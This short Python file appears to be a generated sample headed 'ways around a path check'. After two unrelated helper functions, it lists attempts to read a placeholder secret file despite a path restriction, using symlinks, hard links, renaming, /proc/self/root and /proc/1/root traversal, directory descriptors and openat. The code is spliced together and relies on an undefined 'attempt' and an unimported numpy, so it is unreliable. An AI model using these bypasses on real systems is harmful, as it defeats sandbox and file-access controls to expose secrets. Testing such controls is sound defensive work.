# what: ways around a path check
# score: 10
# integrity: ok
def scale(x, factor):
    return x * factor


def total(x):
    if not isinstance(x, np.ndarray):
        raise TypeError("an array is needed")
    return x.sum()

import os

os.symlink("@SECRET@", "link")
attempt("symbolic link", lambda: print(open("link").read()))
attempt("hard link", lambda: os.link("@SECRET@", "hard") or print(open("hard").read()))
attempt("rename", lambda: os.rename("@SECRET@", "moved"))
for base in ("/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../..", "/proc/thread-self/root"):
    attempt(base, lambda: print(open(base + "@SECRET@").read()))
attempt("directory descriptor", lambda: print(os.open("@HOME@", os.O_RDONLY | os.O_DIRECTORY)))
attempt("openat", lambda: print(os.open("@SECRET@".lstrip("/"), os.O_RDONLY, dir_fd=os.open("/", os.O_PATH))))
